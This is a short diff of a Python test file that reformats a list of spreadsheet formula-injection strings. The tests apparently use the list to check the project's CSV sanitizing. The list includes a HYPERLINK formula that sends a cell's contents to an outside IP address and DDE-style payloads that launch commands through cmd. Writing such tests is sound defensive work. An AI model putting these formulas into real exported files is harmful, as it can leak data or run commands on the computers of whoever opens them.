@@ -10,8 +10,14 @@ import pytest
 
 from ringscope.graph.files import TMP_MARKER, atomic_open, private_dir, remove_leftovers, spreadsheet_safe, write_csv
 
-DANGEROUS = ['=HYPERLINK("http://203.0.113.7/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
-             "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+DANGEROUS = [
+    '=HYPERLINK("http://203.0.113.7/?x="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.fixture
